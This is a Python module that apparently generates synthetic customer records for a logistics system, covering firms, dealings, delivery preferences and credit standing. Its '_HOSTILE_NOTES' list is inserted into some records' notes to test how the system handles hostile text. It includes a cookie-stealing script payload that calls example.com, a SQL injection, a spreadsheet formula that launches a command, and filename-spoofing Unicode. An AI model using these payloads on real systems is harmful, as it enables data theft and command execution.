"""Business: what the invented customers ship, pay, want and say; firms as a whole."""

from collections.abc import Mapping
from datetime import date, timedelta
from random import Random
from typing import Final

from vault.cli.town import names, numbers, places
from vault.domain.canonical import Json

LONGEST_NOTE: Final = 4000

_NOTES = (
    "老客户，电话里先说姓氏。",
    "下午三点以后在家，请先打电话。",
    "发货前核对件数；上次少一件，已补。",
    "Prefers English; call after 18:00 CET.",
    "爱人姓陈，可代收，须报取件码。",
    "门口有狗，放驿站。\n第二行：发票随货。",
    "月结客户，每月 25 日对账。",
)
_HOSTILE_NOTES = (
    "<script>fetch('https://example.com/'+document.cookie)</script>",
    "'; UPDATE subject SET gates = 0; --",
    "\u202egnp.exe \u2066hidden\u2069 turned round",
    "\x1b[31mred\x1b[0m\x07 bell and escape",
    "备注" * (LONGEST_NOTE // 2),
    "😀👩‍🚒🏳️‍🌈 e\u0301 \u200b zero width",
    'tab\there, "quoted", comma; semicolon\r\nand a line',
    "=1+1+cmd|' /C calc'!A0",
    "",
)
_DELIVERY_NOTES = ("放门卫", "快递柜 7 号", "先电话联系", "仅工作日送", "后门进，按门铃两次")
_OPINIONS = (
    "送货准时，态度好。",
    "外包装破损一次，希望加固。",
    "希望能改约派送时间。",
    "Very friendly courier.",
)
_CREDIT = ("近一年回款正常，无逾期。", "曾逾期 12 天，已结清。", "新客户，暂按预付。")
_GRADES = {"A": 5, "B": 15, "C": 45, "D": 35}
_PLANS = {"A": "custom", "B": "quick", "C": "standard", "D": "basic"}
_PLATE_LETTERS = "ABCDEFGHJKLMNPQRSTUVWXYZ"


def organisation(chance: Random, index: int, *, today: date, abroad: bool) -> dict[str, Json]:
    """Make all fields of a firm but its number; one from abroad has neither a code nor a district here."""
    home = places.at_home(chance)
    firm = names.foreign_firm(chance) if abroad else names.firm(chance, home.city)
    fields: dict[str, Json] = {
        "company_name": firm.name,
        "trade": firm.trade,
        "person_in_charge": names.latin(chance) if abroad else names.mainland(chance, man=index % 2 == 0),
        "landline": numbers.landline(index, home.area),
        "email": f"office.{index}@{chance.choice(('example.com', 'example.org', 'example.net'))}",
        "address": places.in_europe(chance) if abroad else home.address,
        "language": "en" if abroad else "zh-CN",
        "bank_account": numbers.bank_card(index),
        "payment_method": chance.choice(("prepaid", "collect", "monthly", "cash_on_delivery")),
        "scope": f"{firm.trade}: {chance.choice(('华东', '全国', '华南', '跨境'))}",
        "volume": f"{chance.randint(1, 900)}.{chance.randint(1, 9)}",
        "industry_standing": chance.choice(("state_priority", "local_priority", "competitive")),
        "market_view": chance.choice(("economic", "ethical", "personalised", "convenience")),
        **_needs(chance),
        **dealings(chance, today=today),
    }
    if abroad:
        fields["jurisdiction"] = "EU"
    else:
        fields["district"] = home.district
        fields["uscc"] = numbers.uscc(index, home.province_digits, sole_trader=False)
    fields |= _standing(chance)
    return fields


def dealings(chance: Random, *, today: date) -> dict[str, Json]:
    """Say how long and how often a customer ships, and its grade: 5, 15 and 80 in a hundred (S1-03)."""
    grade = chance.choices(list(_GRADES), list(_GRADES.values()))[0]
    days = chance.randint(30, 4000)
    return {
        "cooperation_since": (today - timedelta(days=days)).isoformat(),
        "last_deal": (today - timedelta(days=chance.randint(0, min(days, 700)))).isoformat(),
        "yearly_orders": chance.randint(1, {"A": 9000, "B": 1200, "C": 150, "D": 12}[grade]),
        "lifecycle": chance.choices(("past", "present", "future"), (15, 75, 10))[0],
        "grade": grade,
        "service_plan": _PLANS[grade],
    }


def preferences(chance: Random, index: int, fields: Mapping[str, Json]) -> dict[str, Json]:
    """Say what a person likes and what was noted; now and then a note that tries what reads it."""
    said: dict[str, Json] = {
        "delivery_preference": chance.choice(("direct", "door_to_door", "self_pickup")),
        "valuables_insurance": chance.random() < 0.2,
    }
    if chance.random() < 0.4:
        said["delivery_note"] = chance.choice(_DELIVERY_NOTES)
    if index % 25 == 8:
        said["notes"] = _HOSTILE_NOTES[index // 25 % len(_HOSTILE_NOTES)]
    elif index == 0 or chance.random() < 0.5:
        said["notes"] = chance.choice(_NOTES)
    elif chance.random() < 0.05:
        # Desks write down in notes what has a field of its own: a reason why notes are L3 until scanned.
        said["notes"] = f"另一个电话 {str(fields['mobile'])[-11:]}，证件 {fields.get('id_number', '未登记')}"
    if chance.random() < 0.3:
        said["satisfaction"] = chance.randint(1, 10)
        said["opinions"] = chance.sample(_OPINIONS, chance.randint(1, 2))
    return said


def plate(chance: Random, home: places.Place) -> str:
    """Make a number plate; every third is of the new kind, with six signs."""
    letters = [chance.choice(_PLATE_LETTERS), *(str(chance.randint(0, 9)) for _ in range(4))]
    new_kind = chance.random() < 0.33
    return home.plate + (
        "D" + "".join(map(str, (chance.randint(0, 9) for _ in range(5)))) if new_kind else "".join(letters)
    )


def _needs(chance: Random) -> dict[str, Json]:
    wanted = ("transport", "storage", "delivery", "packing", "processing", "information", "finance")
    return {
        "needs": chance.sample(wanted, chance.randint(1, 3)),
        "importance": chance.choice(("high", "middle", "low")),
        "urgency": chance.choice(("high", "middle", "low")),
    }


def _standing(chance: Random) -> dict[str, Json]:
    amount = f"{chance.randint(1, 4_000_000)}.{chance.randint(10, 99)}"
    said: dict[str, Json] = {
        "key_customer": chance.random() < 0.05,
        "value_tier": chance.choice(("high", "middle", "low")),
        "potential_tier": chance.choice(("high", "middle", "low")),
        "yearly_amount": {"currency": "CNY", "amount": amount},
        "payment_record": chance.choices(("good", "late", "defaulted"), (85, 12, 3))[0],
        "credit_inputs": chance.choice(_CREDIT),
    }
    if chance.random() < 0.3:
        said["notes"] = chance.choice(_NOTES)
    return said
